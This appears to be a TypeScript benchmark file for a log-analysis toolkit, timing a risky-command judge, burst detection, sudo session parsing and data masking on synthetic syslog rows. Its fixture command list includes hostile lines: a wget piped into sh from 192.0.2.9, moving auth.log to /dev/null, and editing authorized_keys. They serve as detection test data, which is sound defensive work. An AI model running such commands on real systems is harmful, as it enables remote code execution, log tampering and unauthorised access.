import { bursts } from '../shared/commands/bursts.ts';
import { decodedRuns } from '../shared/commands/hidden.ts';
import { riskyJudge } from '../shared/commands/risky.ts';
import type { Row } from '../shared/kit/report.ts';
import { edgeOf, logonSessions, type SessionEdge } from '../shared/logs/syslog-sessions.ts';
import { Masker } from '../shared/masking/masker.ts';
import { TableMasker } from '../shared/masking/table.ts';
import { timeOf } from '../shared/tables/time.ts';
import type { Bench } from './bench.ts';
import { rowsOf } from './text-inputs.ts';

const size = 100_000;
const generator = (seed = 1) => (below: number): number => ((seed = (Math.imul(seed, 1_103_515_245) + 12_345) & 0x7fffffff) >>> 8) % below;
const users = ['ana', 'ben', 'cai', 'dov', 'eli', 'fay'];
const commands = ['/usr/bin/apt-get update', '/bin/ls -la', '/bin/bash', '/usr/bin/wget http://192.0.2.9/a.sh | sh', '/bin/mv /var/log/auth.log /dev/null', '/usr/bin/id', '/usr/bin/vi /home/ana/.ssh/authorized_keys'];

/** Sudo lines: half of them commands, the rest sessions that open and close. */
const ownSudo = (count: number) => {
  const next = generator();
  let time = Date.UTC(2024, 2, 4);
  return Array.from({ length: count }, () => {
    time += next(100) === 0 ? 50 : 2000 + next(238_000);
    const TimeGenerated = new Date(time).toISOString();
    const Sudoer = users[next(users.length)]!;
    const Command = next(2) ? commands[next(commands.length)]! : '';
    const SyslogMessage = Command ? `${Sudoer} : TTY=pts/0 ; PWD=/home/${Sudoer} ; USER=root ; COMMAND=${Command}` : `pam_unix(sudo:session): session ${next(2) ? `opened for user root by ${Sudoer}(uid=0)` : 'closed for user root'}`;
    return { TimeGenerated, Sudoer, Command, SyslogMessage };
  });
};

const sudo = () => rowsOf('sudo_events', size, ownSudo) as ReturnType<typeof ownSudo>;

/** Rows as a request brings them: parsed, so that no text is still in pieces. */
const maskable = (count: number) => {
  const next = generator(3);
  const hex = (length: number): string => {
    let digits = '';
    for (let at = 0; at < length; at += 1) digits += next(16).toString(16);
    return digits;
  };
  return Array.from({ length: count }, () => JSON.parse(JSON.stringify({
    TenantId: `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`, Computer: `ws${next(500)}.corp.example`, Account: `${users[next(users.length)]}@corp.example`,
    IpAddress: `${next(256)}.${next(256)}.${next(256)}.${next(256)}`, SubjectUserSid: `S-1-5-21-${next(1e9)}-${next(1e9)}-${next(1e9)}-${next(9999)}`, Location: ['London', 'Oslo'][next(2)], EventID: 4624,
  })) as Row);
};

const masking = (name: string, key: string | undefined): Bench => ({
  name, unit: 'rows', size, target: 20,
  prepare: () => {
    const rows = rowsOf('masking', size, maskable);
    return () => {
      const table = new TableMasker(new Masker(key), { columns: {}, usual: true, unmapped: 'keep' });
      let masked = 0;
      for (const batch of table.batches(rows)) masked += batch.length;
      return masked;
    };
  },
});

const benches: Bench[] = [
  {
    name: 'cmd_line.risky', unit: 'rows', size, target: 5,
    prepare: () => {
      const rows = sudo();
      return () => {
        const judge = riskyJudge({ logType: 'Syslog', hidden: decodedRuns });
        return rows.reduce((found, { Command }) => found + (Command !== '' && judge(Command) ? 1 : 0), 0);
      };
    },
  },
  {
    name: 'cmd_line.speed', unit: 'rows', size, target: 5,
    prepare: () => {
      const rows = sudo();
      return () => {
        const timed = rows.flatMap(({ Command, TimeGenerated }, row) => (Command === '' ? [] : [{ time: timeOf(TimeGenerated), row }]));
        return [...bursts(timed, { events: 10, seconds: 5 })].length;
      };
    },
  },
  {
    name: 'syslog.sessions', unit: 'rows', size, target: 10,
    prepare: () => {
      const rows = sudo();
      return () => {
        const edges = rows.flatMap(({ TimeGenerated, Sudoer, SyslogMessage }, row): SessionEdge[] => {
          const said = edgeOf(SyslogMessage);
          return said ? [{ ...said, time: timeOf(TimeGenerated), row, user: Sudoer, host: undefined, processId: undefined }] : [];
        });
        return logonSessions(edges).sessions.length;
      };
    },
  },
  masking('data_masking.rows', undefined),
  masking('data_masking.rows-keyed', 'a key for the benchmark'),
];
export default benches;
